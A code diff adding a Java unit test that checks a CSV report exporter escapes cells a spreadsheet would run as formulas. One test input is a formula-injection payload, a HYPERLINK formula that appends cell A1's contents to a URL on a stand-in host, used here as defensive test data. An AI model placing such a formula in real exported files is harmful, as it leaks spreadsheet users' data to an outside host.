@@ -110,6 +110,21 @@ class PlayReportsTest {
         assertTrue(PlayReports.quote("Sáng, chiều").startsWith("\""));
     }
 
+    @Test
+    void aCellASpreadsheetWouldRunAsAFormulaIsWrittenAsText() {
+        List<SessionReport> rows = List.of(new SessionReport(java.time.LocalDate.of(2026, 11, 24), "-2+3",
+                "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "@SUM(A1:A9)", 1, 1, 1, 1, true),
+                new SessionReport(java.time.LocalDate.of(2026, 11, 24), "+1", "\t=1+1", "\r=2", 1, 0, 1, 0, false));
+
+        String csv = PlayReports.csv(rows);
+
+        assertEquals("date,session,name,village,stations,stations_complete,planned_items,played_items,reached\n"
+                + "2026-11-24,'-2+3,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Bấm\"\")\",'@SUM(A1:A9),1,1,1,1,yes\n"
+                + "2026-11-24,'+1,'\t=1+1,\"'\r=2\",1,0,1,0,no\n", csv);
+        assertEquals("Thôn - Đông", Csv.text("Thôn - Đông"), "a dash inside the text is left alone");
+        assertEquals("", Csv.text(""));
+    }
+
     private Session session(String id, Instant start, String... items) {
         List<Item> list = java.util.Arrays.stream(items).map(i -> new Item(i, i, "a".repeat(64),
                 URI.create("http://127.0.0.1/content/x"), 100, 1000, 0)).toList();
